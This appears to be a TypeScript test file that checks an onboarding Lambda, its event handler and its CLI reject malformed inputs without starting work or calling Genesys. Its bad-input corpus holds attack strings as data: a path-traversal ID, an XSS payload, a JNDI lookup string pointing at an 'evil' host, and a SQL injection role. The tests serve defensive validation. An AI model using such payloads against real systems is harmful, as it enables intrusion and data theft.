import { execFile } from 'node:child_process';
import { setPriority } from 'node:os';
import * as path from 'node:path';
import type { APIGatewayProxyResult } from 'aws-lambda';
import { ONBOARDINGS } from '../../lambdas/api/onboardings';
import { createStartHandler } from '../../lambdas/handlers/api/start-handler';
import type { WorkflowStarter } from '../../lambdas/shared/executions';
import { InvalidRequestError } from '../../lambdas/shared/request-fields';
import { apiEvent, lambdaContext, orgOnboardedEvent } from '../support/lambda';
import { type Cell, truncate, type Verdict } from './cells';
import { type Harness, type Lane, PREFIX } from './harness';

const CLI = path.join(__dirname, '..', '..', 'bin', 'genesys-onboard.cjs');

/** Records every start: a bad input must start nothing. */
class CountingStarter implements WorkflowStarter {
  started = 0;
  async start() {
    this.started++;
    return { executionArn: 'none', alreadyStarted: false };
  }
  async describe() {
    return undefined;
  }
}

/**
 * Malformed API bodies, event details and CLI invocations: each a clear error naming the field (API: 400 or
 * 415; event: `InvalidRequestError` naming it; CLI: exit 2 naming the flag); none starts an execution or
 * makes a Genesys call for the org (two more verdicts).
 */
export function badInputCells(harness: Harness): Cell[] {
  return [{ section: 'bad_inputs', name: 'bad-input corpus', run: (lane) => badInputs(harness, lane) }];
}

async function badInputs(harness: Harness, lane: Lane): Promise<Verdict[]> {
  const org = await harness.newOrg(lane, 'bad inputs');
  const orgId = org.id;
  const valid = harness.request(org);
  const client = valid.oauthClient;
  const starter = new CountingStarter();
  const handler = createStartHandler(ONBOARDINGS, () => ({ starter, secretPrefix: PREFIX }));
  const requestsBefore = lane.simulator.requestLog.length;
  const results: Verdict[] = [];
  const invoke = <T>(call: () => Promise<T>) => harness.runtime.invoke('start-onboarding', call);

  const api: Array<[string, string, string, string?]> = [
    ['invalid JSON', '{"orgId":', 'body'],
    ['JSON array', '[]', 'body'],
    ['JSON string', '"onboard"', 'body'],
    ['JSON null', 'null', 'body'],
    ['empty body', '', 'body'],
    ['wrong content type', JSON.stringify(valid), 'Content-Type', 'text/plain'],
    ['missing orgId', JSON.stringify({ ...valid, orgId: undefined }), 'orgId'],
    ['orgId a number', JSON.stringify({ ...valid, orgId: 42 }), 'orgId'],
    ['orgId not a UUID', JSON.stringify({ ...valid, orgId: 'acme-corp' }), 'orgId'],
    ['orgId with a path', JSON.stringify({ ...valid, orgId: '../../etc/passwd' }), 'orgId'],
    ['missing region', JSON.stringify({ ...valid, region: undefined }), 'region'],
    ['malformed region', JSON.stringify({ ...valid, region: 'eu west 1' }), 'region'],
    ['region an object', JSON.stringify({ ...valid, region: { key: 'eu-west-1' } }), 'region'],
    ['missing oauthClient', JSON.stringify({ ...valid, oauthClient: undefined }), 'oauthClient'],
    ['oauthClient a string', JSON.stringify({ ...valid, oauthClient: 'acme' }), 'oauthClient'],
    [
      'empty client name',
      JSON.stringify({ ...valid, oauthClient: { ...client, name: '' } }),
      'oauthClient.name',
    ],
    [
      'blank client name',
      JSON.stringify({ ...valid, oauthClient: { ...client, name: '   ' } }),
      'oauthClient.name',
    ],
    [
      'overlong client name',
      JSON.stringify({ ...valid, oauthClient: { ...client, name: 'x'.repeat(201) } }),
      'oauthClient.name',
    ],
    [
      'control character in name',
      JSON.stringify({ ...valid, oauthClient: { ...client, name: 'a\u001bb' } }),
      'oauthClient.name',
    ],
    ['newline in name', JSON.stringify({ ...valid, integration: { name: 'a\nb' } }), 'integration.name'],
    [
      'markup in name',
      JSON.stringify({ ...valid, integration: { name: '<img src=x onerror=alert(1)>' } }),
      'integration.name',
    ],
    [
      'template injection',
      JSON.stringify({ ...valid, oauthClient: { ...client, name: '$' + '{jndi:ldap://evil/x}' } }),
      'oauthClient.name',
    ],
    [
      'SQL-looking role',
      JSON.stringify({ ...valid, oauthClient: { ...client, roles: ["x'; DROP TABLE roles; --"] } }),
      'oauthClient.roles.0',
    ],
    ['no roles', JSON.stringify({ ...valid, oauthClient: { ...client, roles: [] } }), 'oauthClient.roles'],
    [
      'duplicate roles',
      JSON.stringify({ ...valid, oauthClient: { ...client, roles: ['a', 'a'] } }),
      'oauthClient.roles',
    ],
    [
      'roles a string',
      JSON.stringify({ ...valid, oauthClient: { ...client, roles: 'admin' } }),
      'oauthClient.roles',
    ],
    [
      'role a number',
      JSON.stringify({ ...valid, oauthClient: { ...client, roles: [7] } }),
      'oauthClient.roles.0',
    ],
    [
      'too many roles',
      JSON.stringify({
        ...valid,
        oauthClient: { ...client, roles: Array.from({ length: 51 }, (_, i) => `r${i}`) },
      }),
      'oauthClient.roles',
    ],
    [
      'bad division',
      JSON.stringify({ ...valid, oauthClient: { ...client, divisionId: 'home' } }),
      'oauthClient.divisionId',
    ],
    [
      'token validity too long',
      JSON.stringify({ ...valid, oauthClient: { ...client, accessTokenValiditySeconds: 999999 } }),
      'oauthClient.accessTokenValiditySeconds',
    ],
    [
      'token validity a string',
      JSON.stringify({ ...valid, oauthClient: { ...client, accessTokenValiditySeconds: '3600' } }),
      'oauthClient.accessTokenValiditySeconds',
    ],
    [
      'secret in the request',
      JSON.stringify({ ...valid, oauthClient: { ...client, clientSecret: 'x' } }),
      'oauthClient.clientSecret',
    ],
    ['unknown top-level field', JSON.stringify({ ...valid, dryRun: true }), 'dryRun'],
    ['missing integration', JSON.stringify({ ...valid, integration: undefined }), 'integration'],
    [
      'integration name missing',
      JSON.stringify({ ...valid, integration: { notes: 'x' } }),
      'integration.name',
    ],
    [
      'bootstrap secret outside the prefix',
      JSON.stringify({ ...valid, bootstrapSecretId: 'prod/database/master' }),
      'bootstrapSecretId',
    ],
    [
      'bootstrap secret path escape',
      JSON.stringify({ ...valid, bootstrapSecretId: `${PREFIX}/../prod/x` }),
      'bootstrapSecretId',
    ],
    ['bad idempotency key', JSON.stringify({ ...valid, idempotencyKey: 'a b/c' }), 'idempotencyKey'],
    [
      'huge body',
      JSON.stringify({ ...valid, integration: { name: 'x'.repeat(2_000_000) } }),
      'integration.name',
    ],
  ];
  for (const [name, body, field, contentType] of api) {
    const response = (await invoke(() =>
      handler(
        apiEvent({ body, headers: { 'Content-Type': contentType ?? 'application/json' } }),
        lambdaContext,
      ),
    )) as APIGatewayProxyResult;
    harness.output('api', `bad inputs: API ${name}`, response.body);
    const answer = JSON.parse(response.body) as {
      message: string;
      problems?: Array<{ field: string; problem: string }>;
    };
    const named =
      field === 'Content-Type'
        ? response.statusCode === 415 && answer.message.includes('Content-Type')
        : response.statusCode === 400 &&
          (answer.problems ?? []).some((p) => p.field === field && p.problem.length > 0);
    results.push({
      name: `API: ${name}`,
      ok: named,
      detail: `${response.statusCode} ${truncate(response.body)}`,
    });
  }

  const events: Array<[string, unknown, string]> = [
    ['no detail', undefined, 'detail'],
    ['detail a string', 'onboard acme', 'body'],
    ['detail empty', {}, 'orgId'],
    ['bad org id', { ...valid, orgId: 'x' }, 'orgId'],
    ['malformed region', { ...valid, region: 'eu_west/1' }, 'region'],
    ['no roles', { ...valid, oauthClient: { ...client, roles: [] } }, 'oauthClient.roles'],
    ['unknown field', { ...valid, priority: 'high' }, 'priority'],
    ['control characters', { ...valid, integration: { name: '\u0000' } }, 'integration.name'],
  ];
  for (const [name, detail, field] of events) {
    const event = orgOnboardedEvent(detail, `bad-${name}`);
    const error = await invoke(() => handler(event as never, lambdaContext)).then(
      () => undefined,
      (e: unknown) => e,
    );
    const ok = error instanceof InvalidRequestError && error.problems.some((p) => p.field === field);
    if (error instanceof Error) harness.output('api', `bad inputs: event ${name}`, error.message);
    results.push({
      name: `event: ${name}`,
      ok,
      detail: error instanceof Error ? truncate(error.message) : 'no error',
    });
  }

  const flags = (overrides: Record<string, string | undefined> = {}) => {
    const all: Record<string, string | undefined> = {
      '--org-id': orgId,
      '--region': 'eu-west-1',
      '--client-name': 'acme-data-actions',
      '--integration-name': 'Acme Data Actions',
      '--role': 'Data Actions Runtime',
      '--api-url': lane.simulator.url,
      '--login-url': lane.simulator.url,
      '--secret-dir': harness.store.root,
      ...overrides,
    };
    return ['onboard', ...Object.entries(all).flatMap(([k, v]) => (v === undefined ? [] : [k, v]))];
  };
  const cli: Array<[string, string[], string]> = [
    ['no command', [], 'Usage: genesys-onboard'],
    ['unknown command', ['deploy'], 'deploy is not a command'],
    ['missing --org-id', flags({ '--org-id': undefined }), '--org-id'],
    ['bad --org-id', flags({ '--org-id': 'acme' }), '--org-id must be'],
    [
      'unknown --region',
      flags({ '--region': 'eu-west-9', '--api-url': undefined, '--login-url': undefined }),
      '--region',
    ],
    ['missing --role', flags({ '--role': undefined }), '--role is required'],
    ['markup in --client-name', flags({ '--client-name': '<b>x</b>' }), '--client-name must not contain'],
    ['bad --secret-store', [...flags(), '--secret-store', 'vault'], '--secret-store must be file or aws'],
    ['bad --api-url', flags({ '--api-url': 'ftp://x' }), '--api-url must be an http(s) URL'],
    ['unknown flag', [...flags(), '--no-such-flag'], '--no-such-flag is not a known option'],
  ];
  const env = {
    PATH: process.env.PATH ?? '',
    HOME: process.env.HOME ?? '',
    GENESYSCLOUD_OAUTHCLIENT_ID: org.seeded.bootstrap.clientId,
    GENESYSCLOUD_OAUTHCLIENT_SECRET: org.seeded.bootstrap.clientSecret,
  };
  // Two at a time and at the lowest priority: each CLI process compiles the CLI with tsx, and ten at once
  // would starve the event loop the other cases' simulators and runs share (their requests would time out).
  const outcomes: Array<{ code: number; output: string }> = [];
  let next = 0;
  const runCli = (args: string[]) =>
    new Promise<{ code: number; output: string }>((resolve) => {
      const child = execFile(
        process.execPath,
        [CLI, ...args],
        { env, timeout: 60_000 },
        (error, stdout, stderr) => {
          resolve({
            code: error ? (typeof error.code === 'number' ? error.code : 1) : 0,
            output: `${stdout}${stderr}`,
          });
        },
      );
      if (child.pid) setPriority(child.pid, 19);
    });
  await Promise.all(
    [0, 1].map(async () => {
      for (let i = next++; i < cli.length; i = next++)
        outcomes[i] = await runCli((cli[i] as [string, string[], string])[1]);
    }),
  );
  cli.forEach(([name, , expected], i) => {
    const outcome = outcomes[i] as { code: number; output: string };
    harness.output('cli', `bad inputs: CLI ${name}`, outcome.output);
    results.push({
      name: `CLI: ${name}`,
      ok: outcome.code === 2 && outcome.output.includes(expected),
      detail: `exit ${outcome.code}: ${truncate(outcome.output.trim().split('\n')[0] ?? '')}`,
    });
  });

  const touched = harness.requestsSince(lane, requestsBefore).filter((e) => e.orgId === orgId).length;
  results.push(
    {
      name: 'no bad input started an execution',
      ok: starter.started === 0,
      detail: `${starter.started} started`,
    },
    { name: 'no bad input made a Genesys call for the org', ok: touched === 0, detail: `${touched} calls` },
  );
  return results;
}
